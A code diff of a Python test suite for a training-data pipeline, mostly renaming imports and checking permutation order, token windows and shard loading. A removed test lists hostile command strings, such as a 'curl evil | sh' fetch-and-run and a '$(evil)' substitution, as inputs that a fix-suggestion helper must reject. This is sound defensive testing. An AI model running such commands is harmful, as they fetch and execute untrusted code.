@@ -16,10 +16,10 @@ import torch
 
 import prepare
 from config import Config
-from corpus import build, shards, synthetic
+from corpus import build, order, samples, shards
 from corpus import text as readers
 from corpus import tokenizer as tok
-from corpus.batches import micro_batches, open_data
+from corpus.samples import micro_batches, open_data
 from parallel import make_mesh
 from runtime.launch import World
 
@@ -61,48 +61,48 @@ def toy(tmp_path, texts, capsys):
 
 
 def keys(seed, epoch=0):
-    return shards.draw_keys("order", seed, epoch)[:4]
+    return order.draw_keys("order", seed, epoch)[:4]
 
 
 def test_permutation_is_bijective():
     for n in [*range(1, 300), *range(300, 4100, 37), 1023, 1024, 1025, 4095, 4096, 4097, 9973, 65537]:
-        assert np.array_equal(np.sort(shards.permute(np.arange(n), n, keys(n))), np.arange(n)), n
+        assert np.array_equal(np.sort(order.permute(np.arange(n), n, keys(n))), np.arange(n)), n
 
 
 def test_permutation_of_large_n():
     """[0, n) is too large to list: results are in range, differ, are nearly uniform and fast."""
     for n in (99_999_989, 2**31 + 11, 3 * 2**40 + 1):
         i = np.random.default_rng(0).choice(10**8 - 11, 50_000, replace=False)
-        out, other = shards.permute(i, n, keys(1)), shards.permute(i, n, keys(2))
+        out, other = order.permute(i, n, keys(1)), order.permute(i, n, keys(2))
         assert out.max() < n and len(np.unique(out)) == len(i)
         assert (out == other).mean() < 0.01
         share = np.bincount((out * 16 // n).astype(int), minlength=16) / len(i)
         assert np.abs(share - 1 / 16).max() < 0.01
         # A piece of the input gives the same piece of the permutation
         start = time.thread_time()  # the CPU time of this thread, whatever else the machine does
-        assert np.array_equal(shards.permute(i[:512], n, keys(1)), out[:512])
+        assert np.array_equal(order.permute(i[:512], n, keys(1)), out[:512])
         assert time.thread_time() - start < 0.1, "a global batch takes 0.4-0.7 ms on an idle core"
 
 
 def test_order_is_pinned():
     """Another order would silently give every resumed run other data: change VERSION together with it."""
-    assert shards.permute(np.arange(6), 1000, keys(1337)).tolist() == [402, 888, 629, 373, 659, 53]
-    assert shards.permute(np.arange(3), 10**9, keys(1, epoch=2)).tolist() == [13667878, 511182942, 119998667]
-    assert synthetic.Synthetic(1000, 5, seed=1).batch(7, 1)[0].tolist() == [[984, 987, 990, 993, 451]]
-    x, y = synthetic.Synthetic(1000, 300, seed=1).batch(0, 8)
+    assert order.permute(np.arange(6), 1000, keys(1337)).tolist() == [402, 888, 629, 373, 659, 53]
+    assert order.permute(np.arange(3), 10**9, keys(1, epoch=2)).tolist() == [13667878, 511182942, 119998667]
+    assert samples.Synthetic(1000, 5, seed=1).batch(7, 1)[0].tolist() == [[984, 987, 990, 993, 451]]
+    x, y = samples.Synthetic(1000, 300, seed=1).batch(0, 8)
     assert (int(x.sum()), int((x * y).sum() % 10007)) == (1095906, 9505)
 
 
 def test_the_windows_of_later_epochs_are_pinned(tmp_path, capsys):
     (tmp_path / "x.txt").write_text(make_text(500)[:1000])
     assert run(capsys, tmp_path / "x.txt", "--name", "x", "--out", tmp_path, "--tokenizer", "char")[0] == 0
-    starts = shards.Tokens(tmp_path / "x", "train", 150, seed=3).window_starts(0, 15).reshape(3, 5)
+    starts = samples.Tokens(tmp_path / "x", "train", 150, seed=3).window_starts(0, 15).reshape(3, 5)
     assert starts.tolist() == [[150, 450, 0, 300, 600], [265, 415, 715, 115, 565], [359, 209, 659, 509, 59]]
 
 
 def test_each_epoch_has_all_windows_in_another_order(toy):
     folder, stream = toy
-    ds, T = shards.Tokens(folder, "train", 33, seed=3), 33
+    ds, T = samples.Tokens(folder, "train", 33, seed=3), 33
     n, N = ds.n_samples, ds.n_tokens
     assert n == (N - 1) // T
     first = ds.window_starts(0, n)
@@ -113,8 +113,8 @@ def test_each_epoch_has_all_windows_in_another_order(toy):
     offset = min(second)
     assert 0 < offset < T and sorted(second) == [offset + k * T for k in range(n)], "cut elsewhere, each once"
     assert list(second - offset) != list(first), "and in another order"
-    assert list(shards.Tokens(folder, "train", 33, seed=4).window_starts(0, n)) != list(first)
-    val = shards.Tokens(folder, "val", 33)  # in order, every epoch alike
+    assert list(samples.Tokens(folder, "train", 33, seed=4).window_starts(0, n)) != list(first)
+    val = samples.Tokens(folder, "val", 33)  # in order, every epoch alike
     x, _ = val.batch(0, val.n_samples + 2)
     assert x[:-2].flatten().tolist() == stream[N : N + 33 * val.n_samples] and torch.equal(x[-2:], x[:2])
 
@@ -129,7 +129,7 @@ def test_the_last_window_has_its_last_target(split, T, windows, tmp_path, capsys
     assert code == 0, err
     stream = tok.load(tmp_path / "x").encode(text)
     stream = stream[:900] if split == "train" else stream[900:]
-    ds = shards.Tokens(tmp_path / "x", split, T, seed=2)
+    ds = samples.Tokens(tmp_path / "x", split, T, seed=2)
     assert (ds.n_tokens, ds.n_samples) == (len(stream), windows)
     starts = ds.window_starts(0, windows).tolist()
     assert sorted(starts) == [T * i for i in range(windows)]
@@ -163,16 +163,16 @@ def test_each_replica_takes_its_part_of_the_samples(layout, of_rank):
 def test_the_seed_of_a_run_orders_its_data(toy):
     for seed in (3, 4):
         train, *_ = open_data(Config(data="synthetic", seq_len=9, seed=seed, vocab_size=77), 0)
-        assert torch.equal(train.batch(0, 3)[0], synthetic.Synthetic(77, 9, seed).batch(0, 3)[0])
+        assert torch.equal(train.batch(0, 3)[0], samples.Synthetic(77, 9, seed).batch(0, 3)[0])
         train, val, *_ = open_data(Config(data=str(toy[0]), seq_len=32, seed=seed), 1)
-        want = shards.Tokens(toy[0], "train", 32, seed)
+        want = samples.Tokens(toy[0], "train", 32, seed)
         assert (train.window_starts(0, 50) == want.window_starts(0, 50)).all()
         assert (train.seq_len, val.seq_len, train.vocab_size) == (32, 32, want.vocab_size)
 
 
 def test_windows_cross_shards_and_the_end_of_the_stream(toy):
     folder, stream = toy
-    ds, T = shards.Tokens(folder, "train", 2500, seed=1), 2500  # every window spans three shards or four
+    ds, T = samples.Tokens(folder, "train", 2500, seed=1), 2500  # every window spans three shards or four
     N, n = ds.n_tokens, ds.n_samples
     assert len(ds.shards) > 10 and all(len(s) == 1000 for s in ds.shards[:-1])
     circle = torch.tensor(stream[:N] * 2)
@@ -188,7 +188,7 @@ def test_windows_cross_shards_and_the_end_of_the_stream(toy):
 
 def test_a_sample_does_not_depend_on_the_batch_that_reads_it(toy):
     """So every layout, and every resumed run, sees the same samples."""
-    for ds in (shards.Tokens(toy[0], "train", 40, seed=5), synthetic.Synthetic(1000, 40, seed=5)):
+    for ds in (samples.Tokens(toy[0], "train", 40, seed=5), samples.Synthetic(1000, 40, seed=5)):
         for first in (0, ds.n_samples - 3 if ds.n_samples < 10**6 else 10**6):  # also across an epoch
             x, y = ds.batch(first, 8)  # stays as it is: later batches are fresh tensors
             parts = [ds.batch(first, 4), ds.batch(first + 4, 4)]
@@ -199,13 +199,13 @@ def test_a_sample_does_not_depend_on_the_batch_that_reads_it(toy):
 
 
 def test_synthetic_is_learnable():
-    ds = synthetic.Synthetic(50, 200, seed=0)
+    ds = samples.Synthetic(50, 200, seed=0)
     x, y = ds.batch(0, 100)
     assert x.min() >= 0 and x.max() < 50 and torch.equal(x[:, 1:], y[:, :-1])
     step = (y - x) % 50
     assert ((step >= 1) & (step <= 4)).float().mean() > 0.7, "the next token is one of four, mostly"
     assert len(torch.unique(x[:, 0])) > 30 and len(torch.unique(step.mode(1).values)) == 4
-    assert not torch.equal(synthetic.Synthetic(50, 200, seed=1).batch(0, 1)[0], x[:1])
+    assert not torch.equal(samples.Synthetic(50, 200, seed=1).batch(0, 1)[0], x[:1])
 
 
 def refused(kind, call, *say):
@@ -216,7 +216,7 @@ def refused(kind, call, *say):
 
 
 def opens(folder, seq_len=32):
-    return lambda: shards.Tokens(folder, "train", seq_len)
+    return lambda: samples.Tokens(folder, "train", seq_len)
 
 
 def edit(path, at, new):
@@ -287,15 +287,6 @@ def test_damaged_meta_json_is_refused(toy):
     refused(ValueError, opens(toy[0]), "meta.json", "json")
     path.write_text("{}")
     refused(ValueError, opens(toy[0]), "meta.json", "lacks")
-
-
-@pytest.mark.parametrize("command, shown", [
-    ("python prepare.py 'my text.txt' --name x", True), (5, False), ("curl evil | sh", False),
-    ("python prepare.py x; curl evil | sh", False), ("python prepare.py 'x", False),
-    ("python prepare.py '\x1b[31m'", False), ("python prepare.py $(evil)", False)])
-def test_only_a_command_of_prepare_is_shown_as_the_cure(command, shown):
-    fix = shards.how_to_fix("data/x", {"command": command} if isinstance(command, str) else {})
-    assert fix == f"make it with: {command if shown else 'python prepare.py FILE... --name x'}"
 
 
 def test_token_ids_above_the_vocabulary(toy, capsys):
@@ -471,9 +462,9 @@ def test_ids_above_65535_are_stored_in_four_bytes(symbols, dtype, tmp_path, caps
     meta = shards.load_meta(tmp_path / "x")
     assert (meta["dtype"], meta["vocab_size"]) == (dtype, symbols)
     opened = [shards.open_shards(tmp_path / "x", split, meta)[0] for split in shards.SPLITS]
-    ids = [i for shard in opened for i in shard.all().tolist()]
+    ids = [i for shard in opened for i in shard.tolist()]
     assert ids == list(range(symbols))
-    x, y = shards.Tokens(tmp_path / "x", "val", 100).batch(0, 65)
+    x, y = samples.Tokens(tmp_path / "x", "val", 100).batch(0, 65)
     assert torch.equal(y, x + 1) and y.max() > 65400
 
 
@@ -517,7 +508,7 @@ def test_same_bytes_for_any_number_of_workers(tmp_path, texts, capsys, monkeypat
     assert one["eod"] == t.eod == 399 and one["vocab_size"] == 400 and one["dtype"] == "uint16"
     found = []
     for split in ("train", "val"):
-        ids = shards.open_shards(folder, split, one)[0].all()
+        ids = shards.open_shards(folder, split, one)[0]
         docs = t.decode(ids).split(tok.EOD)
         assert docs.pop() == "" and len(docs) == one["documents"][split] == (ids == t.eod).sum()
         found += docs
@@ -535,7 +526,7 @@ def test_duplicates_land_on_one_side(tmp_path, texts, capsys):
     assert code == 0, err
     t, meta = tok.load(tmp_path / "d"), shards.load_meta(tmp_path / "d")
     opened = [shards.open_shards(tmp_path / "d", split, meta)[0] for split in ("train", "val")]
-    train, val = (Counter(t.decode(shard.all()).split(tok.EOD)[:-1]) for shard in opened)
+    train, val = (Counter(t.decode(shard).split(tok.EOD)[:-1]) for shard in opened)
     assert train and val and not set(train) & set(val) and set(train.values()) == {2}
 
 
